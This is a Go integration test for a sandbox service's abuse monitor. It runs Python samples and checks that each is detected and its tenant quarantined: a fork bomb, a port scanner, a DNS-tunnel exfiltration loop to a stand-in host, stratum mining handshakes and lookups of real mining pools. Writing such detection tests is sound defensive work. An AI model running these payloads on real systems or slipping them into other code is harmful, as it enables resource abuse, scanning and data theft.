package abuse_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlockhq/airlock"
	"github.com/airlockhq/airlock/internal/testenv"
	"github.com/airlockhq/airlock/internal/testenv/testreq"
	"github.com/airlockhq/airlock/internal/testnet"
	"github.com/airlockhq/airlock/internal/teststack"
	"github.com/airlockhq/airlock/service/abuse"
	"github.com/airlockhq/airlock/service/egress"
	"github.com/airlockhq/airlock/store/sqlite"
)

// decisionBound is the reference design's bound on an abuse decision.
const decisionBound = 60 * time.Second

// node is a stack whose runs and sessions the monitor watches, with an
// egress service whose log the monitor reads and a little internet of
// the test's own.
type node struct {
	st    *teststack.Stack
	store *sqlite.DB
	mon   *abuse.Monitor
	inet  *testnet.Internet
	svc   *egress.Service
}

func newNode(t *testing.T, cfg abuse.Config) *node {
	t.Helper()
	if os.Geteuid() != 0 {
		testreq.Skip(t, "skipped: needs root (sandboxes, network namespaces and nftables)")
	}
	ctx := context.Background()
	inet := testnet.New(t)
	store, err := sqlite.Open(ctx, sqlite.Config{Path: filepath.Join(t.TempDir(), "airlock.db")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	logger := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	cfg.Store, cfg.Logger = store, logger
	mon, err := abuse.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(mon.Close)
	var r [2]byte
	rand.Read(r[:])
	svc, err := egress.New(egress.Config{
		Store:       mon.EgressStore(store),
		Prefix:      "a" + hex.EncodeToString(r[:]),
		Subnet:      netip.PrefixFrom(netip.AddrFrom4([4]byte{10, 160 + r[0]%30, r[1] &^ 3, 0}), 22),
		Upstreams:   []string{inet.Upstream()},
		Permit:      []netip.Prefix{inet.Prefix},
		PeekTimeout: time.Second,
		Logger:      logger,
	})
	if err != nil {
		t.Fatal(err)
	}
	svc.Start()
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		if err := svc.Close(ctx); err != nil {
			t.Errorf("close egress: %v", err)
		}
		if err := svc.CheckClean(); err != nil {
			t.Error(err)
		}
	})
	st := teststack.New(t, teststack.Options{
		Extra: []airlock.Backend{testenv.Namespaces(t)},
		Store: store, Egress: svc, EgressLog: store, NoServer: true,
		Watchdog: mon, Quarantines: store, MaxTimeout: 2 * time.Minute,
		NetworkAllow: func(*airlock.Tenant) []string { return []string{"api.test"} },
	})
	return &node{st: st, store: store, mon: mon, inet: inet, svc: svc}
}

func (n *node) tenant(t *testing.T, name string) *airlock.Tenant {
	t.Helper()
	tn := &airlock.Tenant{Name: name}
	if err := n.store.CreateTenant(context.Background(), tn); err != nil {
		t.Fatal(err)
	}
	return tn
}

// event waits for the tenant's abuse event (up to the bound) and returns
// it with the time from start.
func (n *node) event(t *testing.T, tn *airlock.Tenant, start time.Time) (*airlock.AbuseEvent, time.Duration) {
	t.Helper()
	var ev *airlock.AbuseEvent
	testreq.Poll(decisionBound+10*time.Second-time.Since(start), func() bool {
		evs, err := n.store.ListAbuseEvents(context.Background(), airlock.AbuseEventFilter{TenantID: tn.ID})
		if err != nil {
			t.Fatal(err)
		}
		if len(evs) > 0 {
			ev = evs[len(evs)-1]
		}
		return ev != nil
	})
	if ev == nil {
		t.Fatalf("no abuse event for tenant %s within %v", tn.Name, time.Since(start))
	}
	return ev, ev.Time.Sub(start)
}

// behaviour is one program run in a sandbox and what the monitor must
// make of it.
type behaviour struct {
	name     string
	code     string // Python
	network  bool
	detector string // "" for the legitimate one
}

// The behaviours of the issue, each in a real gVisor sandbox under the
// default detector thresholds: each abusive one is detected, its sandbox
// killed within the bound and its event recorded, its run ends by
// abuse:<detector> and its tenant is quarantined; the legitimate
// CPU-heavy job that prints its progress, run in the same window as the
// spinner, is not flagged, and neither is a program that prints nothing
// while it sleeps.
func TestBehavioursInSandboxes(t *testing.T) {
	n := newNode(t, abuse.Config{Response: abuse.ResponseQuarantine})
	addr := n.inet.Addr()
	cases := []behaviour{
		{name: "cpu-spinner", code: "while True:\n    pass\n", detector: airlock.DetectorMining},
		// Both outlast the mining window (45 s) by a margin.
		{name: "quiet-sleeper", code: "import time\ntime.sleep(52)\nprint('done')\n"},
		{name: "legitimate-cpu-job", code: `
import time, hashlib
end = time.time() + 55
i = 0
while time.time() < end:
    h = b"x"
    for _ in range(20000):
        h = hashlib.sha256(h).digest()
    i += 1
    if i % 10 == 0:
        print("progress", i, flush=True)
print("done")
`},
		// Children that exec a small program: the process limit, not
		// memory, is what this one runs into (a Python child each,
		// copies of the interpreter, can use up the sandbox's memory
		// first; then the memory limit ends it, ended_by memory, often
		// before the detector's next sample).
		{name: "fork-bomb", code: forkBomb, detector: airlock.DetectorForkBomb},
		{name: "port-scan", network: true, code: fmt.Sprintf(`
import socket, time
port = 1
while True:
    try:
        socket.create_connection(("%s", port), timeout=1).close()
    except OSError:
        pass
    port = port %% 60000 + 1
`, addr), detector: airlock.DetectorScanning},
		{name: "dns-tunnel", network: true, code: dnsTunnel, detector: airlock.DetectorDNSTunnel},
		{name: "stratum", network: true, code: fmt.Sprintf(`
import socket, time
while True:
    try:
        s = socket.create_connection(("%s", 3333), timeout=3)
        s.sendall(b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n')
        s.recv(100)
    except OSError:
        pass
    time.sleep(1)
`, addr), detector: airlock.DetectorMining},
		{name: "pool-dns", network: true, code: `
import socket, time
while True:
    try:
        socket.getaddrinfo("pool.supportxmr.com", 3333)
    except OSError:
        pass
    time.sleep(1)
`, detector: airlock.DetectorMining},
	}
	// The spinner, the sleeper and the legitimate job run at once; the
	// others after.
	runCase := func(t *testing.T, c behaviour) {
		ctx := context.Background()
		tn := n.tenant(t, c.name)
		start := time.Now()
		e, err := n.st.Manager.Execute(ctx, tn, "", airlock.ExecuteRequest{Language: airlock.Python, Image: "base",
			Code: c.code, AllowNetwork: c.network, TimeoutSec: 90})
		took := time.Since(start)
		if err != nil {
			t.Fatalf("execute: %v", err)
		}
		evs, err := n.store.ListAbuseEvents(ctx, airlock.AbuseEventFilter{TenantID: tn.ID})
		if err != nil {
			t.Fatal(err)
		}
		if c.detector == "" {
			if len(evs) != 0 || e.EndedBy != "" || e.ExitCode != 0 || !strings.Contains(e.Stdout, "done") {
				t.Fatalf("%s: exit %d, ended_by %q, events %+v, stdout %q", c.name, e.ExitCode, e.EndedBy, evs, tail(e.Stdout))
			}
			t.Logf("%s: ran %v unflagged (%d lines of progress)", c.name, took.Round(time.Millisecond), strings.Count(e.Stdout, "\n"))
			return
		}
		ev, decided := n.event(t, tn, start)
		t.Logf("%s: %s detected after %v (run ended after %v): %s %v", c.name, ev.Detector, decided.Round(time.Millisecond),
			took.Round(time.Millisecond), ev.Summary, ev.Evidence)
		if ev.Detector != c.detector || ev.ExecutionID != e.ID || ev.Action != airlock.ActionQuarantined {
			t.Errorf("event %+v", ev)
		}
		if decided > decisionBound || took > decisionBound+10*time.Second {
			t.Errorf("decided after %v, run ended after %v: the bound is %v", decided, took, decisionBound)
		}
		rec, err := n.store.Execution(ctx, tn.ID, e.ID)
		if err != nil {
			t.Fatal(err)
		}
		if rec.EndedBy != airlock.AbuseReason(c.detector) || rec.ExitCode != 137 || e.EndedBy != rec.EndedBy {
			t.Errorf("the record: ended_by %q (result %q), exit %d, limits %v", rec.EndedBy, e.EndedBy, rec.ExitCode, rec.LimitsHit)
		}
		_, err = n.st.Manager.Execute(ctx, tn, "", airlock.ExecuteRequest{Language: airlock.Bash, Code: "echo hi"})
		var ae *airlock.Error
		if !errorAs(err, &ae) || ae.Type != airlock.ProblemTenantQuarantined || airlock.ErrorCode(err) != airlock.EFORBIDDEN {
			t.Errorf("a run of the quarantined tenant: %v", err)
		}
	}
	var wg sync.WaitGroup
	for _, c := range cases[:3] {
		wg.Add(1)
		go func() {
			defer wg.Done()
			t.Run(c.name, func(t *testing.T) { runCase(t, c) })
		}()
	}
	wg.Wait()
	for _, c := range cases[3:] {
		t.Run(c.name, func(t *testing.T) { runCase(t, c) })
	}
}

// forkBomb forks for ever, each child a sleep.
const forkBomb = `
import os, time
while True:
    try:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "600"])
    except OSError:
        time.sleep(0.01)
`

// dnsTunnel sends data out as the labels of DNS queries, a chunk a
// query, as a tunnel does.
const dnsTunnel = `
import base64, os, socket, time
while True:
    chunk = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()
    try:
        socket.getaddrinfo(chunk + ".t.exfil.example", 53)
    except OSError:
        pass
    time.sleep(0.2)
`

func tail(s string) string {
	if len(s) > 300 {
		return "..." + s[len(s)-300:]
	}
	return s
}

// A session whose sandbox a detector kills ends with the reason
// abuse:<detector>, and the exec that was running says so too.
func TestSessionEndsByAbuse(t *testing.T) {
	n := newNode(t, abuse.Config{})
	ctx := context.Background()
	tn := n.tenant(t, "sessions")
	s, _, err := n.st.Sessions.CreateSession(ctx, tn, airlock.CreateSessionRequest{Image: "base",
		Network: &airlock.NetworkPolicy{Mode: airlock.NetworkAllowList, Allow: []string{"api.test"}}}, "")
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	e, err := n.st.Sessions.Exec(ctx, tn, s.ID, airlock.SessionExecRequest{TimeoutSec: 90,
		Cmd: []string{"python3", "-c", "import socket, time\nwhile True:\n    try: socket.getaddrinfo('eu.moneroocean.stream', 10128)\n    except OSError: pass\n    time.sleep(1)\n"}}, nil)
	t.Logf("the exec: %v (err %v)", e, err)
	ev, decided := n.event(t, tn, start)
	if ev.Detector != airlock.DetectorMining || ev.SessionID != s.ID || ev.Action != airlock.ActionKilled {
		t.Errorf("event %+v", ev)
	}
	var got *airlock.Session
	if !testreq.Poll(30*time.Second, func() bool {
		got, err = n.st.Sessions.Session(ctx, tn, s.ID)
		return err == nil && !got.State.Live()
	}) {
		t.Fatalf("the session did not end: %+v %v", got, err)
	}
	t.Logf("session ended %v after the exec began: %s (%s); detected after %v", time.Since(start).Round(time.Millisecond), got.EndReason, got.EndDetail, decided.Round(time.Millisecond))
	if got.EndReason != "abuse:mining" || decided > decisionBound {
		t.Errorf("session end reason %q, decided after %v", got.EndReason, decided)
	}
	recs, err := n.store.ListExecutions(ctx, airlock.ExecutionFilter{TenantID: tn.ID})
	if err != nil || len(recs) != 1 {
		t.Fatalf("executions %v %v", recs, err)
	}
	if recs[0].EndedBy != "abuse:mining" {
		t.Errorf("the exec's record: ended_by %q, status %s, error %q", recs[0].EndedBy, recs[0].Status, recs[0].Error)
	}
}

// The detectors that read the host's cgroup work the same for the
// namespaces backend (first-party code on the host's kernel), whose
// process limit is the host's: a spinner and a fork bomb.
func TestNamespacesBackend(t *testing.T) {
	n := newNode(t, abuse.Config{})
	ctx := context.Background()
	for _, c := range []behaviour{
		{name: "ns-fork-bomb", code: forkBomb, detector: airlock.DetectorForkBomb},
		{name: "ns-cpu-spinner", code: "while True:\n    pass\n", detector: airlock.DetectorMining},
	} {
		t.Run(c.name, func(t *testing.T) {
			tn := n.tenant(t, c.name)
			if err := n.store.SetTenantFirstParty(ctx, tn.ID, true); err != nil {
				t.Fatal(err)
			}
			tn.FirstParty = true
			start := time.Now()
			e, err := n.st.Manager.Execute(ctx, tn, "", airlock.ExecuteRequest{Language: airlock.Python, Image: "base",
				Code: c.code, TimeoutSec: 90, Isolation: airlock.IsolationContainer})
			if err != nil {
				t.Fatal(err)
			}
			ev, decided := n.event(t, tn, start)
			t.Logf("%s on %s: %s after %v: %s %v", c.name, e.Backend, ev.Detector, decided.Round(time.Millisecond), ev.Summary, ev.Evidence)
			if e.Backend != "namespaces" || ev.Detector != c.detector || e.EndedBy != airlock.AbuseReason(c.detector) || decided > decisionBound {
				t.Errorf("backend %s, event %+v, ended_by %q, after %v", e.Backend, ev, e.EndedBy, decided)
			}
		})
	}
}
